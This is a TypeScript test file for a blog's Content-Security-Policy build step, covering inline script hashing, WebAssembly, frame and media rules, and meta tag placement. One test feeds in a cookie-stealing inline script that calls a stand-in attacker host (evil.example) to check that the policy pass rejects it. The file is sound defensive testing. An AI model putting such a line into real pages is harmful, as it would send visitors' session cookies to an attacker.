import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { blogSources } from '@/lib/site/csp';
import { policyDirective, sha256Source } from '@/test-support/csp';
import {
  applyPagePolicy,
  unknownInlineScripts,
  inlineScriptHashes,
  insertCspMeta,
  isArticlePage,
  isExecutableInline,
  scriptHash,
  WASM_PAGES,
  writePagePolicies,
} from './csp';

const page = (head: string, body = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>${head}</head><body>${body}</body></html>`;

function metaPolicy(html: string): string {
  const match = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html);
  if (!match?.[1]) throw new Error('no CSP meta');
  return match[1].replace(/&quot;/g, '"').replace(/&amp;/g, '&');
}

describe('inline script hashes', () => {
  it('hashes the exact text of each inline executable script, the way the browser does', () => {
    const html = page(
      '<script src="/_next/static/chunks/a.js" async=""></script><script id="_R_">self.a=1</script>',
      '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script type="module">import "x"</script>',
    );
    assert.deepEqual(inlineScriptHashes(html), [
      sha256Source('self.a=1'),
      sha256Source('(self.__next_f=self.__next_f||[]).push([0])'),
      sha256Source('import "x"'),
    ]);
  });

  it('leaves out data blocks such as JSON-LD, and external scripts', () => {
    const html = page(
      '<script src="/a.js"></script>',
      '<script type="application/ld+json">{"@type":"Organization"}</script><script type="application/json">{}</script>',
    );
    assert.deepEqual(inlineScriptHashes(html), []);
  });

  it('hashes non-ASCII text as UTF-8 and line endings as the HTML parser normalises them', () => {
    assert.equal(scriptHash('push("café — ✓")'), sha256Source('push("café — ✓")'));
    assert.equal(scriptHash('a()\r\nb()\rc()'), sha256Source('a()\nb()\nc()'));
  });

  it('lists a script repeated on the page once', () => {
    assert.deepEqual(inlineScriptHashes(page('<script>x()</script><script>x()</script>')), [sha256Source('x()')]);
  });

  it('tells executable script types from data blocks by the type attribute, not look-alikes', () => {
    assert.equal(isExecutableInline(''), true);
    assert.equal(isExecutableInline(' type="text/javascript"'), true);
    assert.equal(isExecutableInline(" type='Module'"), true);
    assert.equal(isExecutableInline(' data-type="application/ld+json"'), true);
    assert.equal(isExecutableInline(' type="application/ld+json"'), false);
    assert.equal(isExecutableInline(' type="text/plain"'), false);
    assert.equal(isExecutableInline(' src="/a.js"'), false);
    assert.equal(isExecutableInline(' data-src="/a.js"'), true);
  });
});

describe('WebAssembly on the search page only', () => {
  const sources = blogSources({});
  // A payload push: an inline script of a shape the pass accepts (lib/site/csp-inline.ts).
  const script = 'self.__next_f.push([1,"a"])';
  const html = page(`<script>${script}</script>`);

  it("adds 'wasm-unsafe-eval' (and never 'unsafe-eval') where asked, and nowhere by default", () => {
    assert.deepEqual(policyDirective(metaPolicy(applyPagePolicy(html, sources, { wasm: true })), 'script-src'), [
      "'self'",
      "'wasm-unsafe-eval'",
      sha256Source(script),
    ]);
    assert.doesNotMatch(applyPagePolicy(html, sources, { wasm: true }), /'unsafe-eval'/);
    assert.doesNotMatch(applyPagePolicy(html, sources), /wasm-unsafe-eval/);
  });

  it('is asked for the exported search page alone', () => {
    assert.deepEqual([...WASM_PAGES], ['search.html']);
  });
});

describe('frames on article pages only, media from the WordPress hosts', () => {
  const sources = blogSources({ apiBase: 'https://blog-api.example.com', site: 'news.example.com' });
  const html = page('<script src="/a.js"></script>');
  const players = ['https://www.youtube-nocookie.com', 'https://player.vimeo.com'];

  it('lets an article frame exactly the players it is given', () => {
    assert.deepEqual(policyDirective(metaPolicy(applyPagePolicy(html, sources, { frames: players })), 'frame-src'), players);
  });

  it("denies frames everywhere else, explicitly ('none', not left to default-src)", () => {
    assert.deepEqual(policyDirective(metaPolicy(applyPagePolicy(html, sources)), 'frame-src'), ["'none'"]);
    assert.deepEqual(policyDirective(metaPolicy(applyPagePolicy(html, sources, { wasm: true })), 'frame-src'), ["'none'"]);
  });

  it('takes audio and video from the hosts images come from, never from data:', () => {
    const policy = metaPolicy(applyPagePolicy(html, sources));
    assert.deepEqual(
      policyDirective(policy, 'media-src'),
      policyDirective(policy, 'img-src').filter((source) => source !== 'data:'),
    );
    for (const host of ["'self'", 'https://*.files.wordpress.com', 'https://blog-api.example.com', 'https://news.example.com'])
      assert.ok(policyDirective(policy, 'media-src').includes(host), host);
  });

  for (const [path, article] of [
    ['blog/7/upgrade-walkthrough.html', true],
    ["blog/123456/a-post-with-an-apostrophe's-title.html", true],
    ['blog/article.html', true],
    ['blog/drafts.html', true],
    ['blog.html', false],
    ['blog/page/2.html', false],
    ['blog/category/edge.html', false],
    ['blog/7.html', false],
    ['blog/7/slug/extra.html', false],
    ['blog/x7/slug.html', false],
    ['index.html', false],
    ['search.html', false],
    ['404.html', false],
    ['contact.html', false],
  ] as const) {
    it(`treats ${path} as an article page: ${article}`, () => {
      assert.equal(isArticlePage(path), article);
    });
  }
});

describe('meta insertion', () => {
  const sources = blogSources({});
  const FLIGHT = 'self.__next_f.push([1,"a"])';

  it('puts the policy right after the charset declaration, before every script and stylesheet', () => {
    const html = page(`<link rel="stylesheet" href="/a.css"/><script src="/a.js"></script><script>${FLIGHT}</script>`);
    const out = applyPagePolicy(html, sources);
    assert.ok(out.indexOf('<meta charSet="utf-8"/><meta http-equiv="Content-Security-Policy"') > 0);
    assert.ok(out.indexOf('Content-Security-Policy') < out.indexOf('<link'));
    assert.deepEqual(policyDirective(metaPolicy(out), 'script-src'), ["'self'", sha256Source(FLIGHT)]);
  });

  it('is the first child of <head> when there is no charset declaration first', () => {
    const out = insertCspMeta('<html><head><title>x</title></head></html>', "default-src 'self'");
    assert.equal(
      out,
      `<html><head><meta http-equiv="Content-Security-Policy" content="default-src 'self'"/><title>x</title></head></html>`,
    );
  });

  it('gives the same page on a second run instead of stacking policies', () => {
    const html = page(`<script>${FLIGHT}</script>`);
    const once = applyPagePolicy(html, sources);
    assert.equal(applyPagePolicy(once, sources), once);
  });

  it('refuses a page whose policy could not precede its scripts, or that has no head', () => {
    assert.throws(() => insertCspMeta('<html><body></body></html>', "default-src 'self'"), /no <head>/);
    assert.throws(() => insertCspMeta('<script>a()</script><html><head></head></html>', "default-src 'self'"), /precedes/);
  });
});

describe('strict inline scripts', () => {
  const sources = blogSources({});

  it('refuses to hash an inline script of a shape Next does not write, naming it', () => {
    const html = page(
      '<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>fetch("//evil.example/?"+document.cookie)</script>',
    );
    assert.deepEqual(unknownInlineScripts(html), ['fetch("//evil.example/?"+document.cookie)']);
    assert.throws(() => applyPagePolicy(html, sources), /1 inline script\(s\) of a shape the CSP pass does not know[\s\S]*evil\.example/);
  });

  it('ignores data blocks such as JSON-LD, whatever they hold', () => {
    const html = page('<script type="application/ld+json">{"name":"alert(1)"}</script>');
    assert.deepEqual(unknownInlineScripts(html), []);
  });
});

describe('the drafts preview in the export', () => {
  it('talks to the WordPress.com API only, where every other page keeps its connect-src', async () => {
    const out = mkdtempSync(join(tmpdir(), 'csp-drafts-'));
    try {
      mkdirSync(join(out, 'blog'));
      for (const file of ['blog/drafts.html', 'contact.html']) writeFileSync(join(out, file), page('<title>x</title>'));
      const env = {
        NEXT_PUBLIC_BLOG_API_BASE: 'https://public-api.wordpress.com',
        NEXT_PUBLIC_PLAUSIBLE_DOMAIN: 'www.example.com',
      };
      await writePagePolicies(out, env);
      const connect = (file: string) => policyDirective(metaPolicy(readFileSync(join(out, file), 'utf8')), 'connect-src');
      assert.deepEqual(connect('blog/drafts.html'), ['https://public-api.wordpress.com']);
      assert.deepEqual(connect('contact.html'), [
        "'self'",
        'https://public-api.wordpress.com',
        'https://api.emailjs.com',
        'https://plausible.io',
      ]);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });
});
